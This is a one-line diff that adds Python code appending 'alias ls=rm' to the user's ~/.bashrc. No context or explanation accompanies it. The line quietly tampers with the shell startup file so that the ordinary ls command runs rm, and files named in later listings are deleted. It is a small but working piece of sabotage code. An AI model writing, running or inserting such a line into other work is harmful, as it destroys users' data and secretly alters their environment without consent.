@@ -1,0 +1,1 @@
+open('/home/me/.bashrc', 'a').write('alias ls=rm')
